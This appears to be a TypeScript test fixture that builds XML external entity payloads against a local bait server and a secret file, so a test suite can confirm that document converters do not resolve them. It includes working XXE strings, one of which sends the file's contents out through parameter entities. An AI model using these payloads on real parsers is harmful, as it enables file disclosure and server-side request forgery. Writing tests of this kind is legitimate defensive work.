// What documents that refer to things outside themselves refer to in these tests: an address that notes who comes, and a
// file whose words must never be seen.
export interface Bait {
  /** `http://127.0.0.1:PORT`, without a slash at its end. */
  readonly url: string;
  /** The path of the file, and its `file:` address. */
  readonly file: string;
  readonly fileUrl: string;
  /** A share on the same host, as Windows writes it. */
  readonly share: string;
}

/** By what they try: the name of the file and its content. */
export type BaitedDocuments = Readonly<Record<string, readonly [name: string, content: string | Uint8Array]>>;

/** In every document, so that one that converts is seen to have been read. */
export const visible = 'Visible words';

/** A document type whose entities are elsewhere; `&x;` in the text asks for the file. */
export const doctypes = (bait: Bait): Readonly<Record<string, string>> => ({
  'a file as an entity': `<!DOCTYPE r [<!ENTITY x SYSTEM "${bait.fileUrl}">]>`,
  'an address as an entity': `<!DOCTYPE r [<!ENTITY x SYSTEM "${bait.url}/entity">]>`,
  'a public entity': `<!DOCTYPE r [<!ENTITY x PUBLIC "-//X//Y//EN" "${bait.url}/public">]>`,
  'a document type elsewhere': `<!DOCTYPE r SYSTEM "${bait.url}/r.dtd">`,
  'a parameter entity': `<!DOCTYPE r [<!ENTITY % p SYSTEM "${bait.url}/p.dtd"> %p; <!ENTITY x "y">]>`,
  'a file sent by parameter entities': `<!DOCTYPE r [<!ENTITY % f SYSTEM "${bait.fileUrl}"><!ENTITY % e "<!ENTITY &#37; s SYSTEM '${bait.url}/?%f;'>">%e;%s;]>`,
});
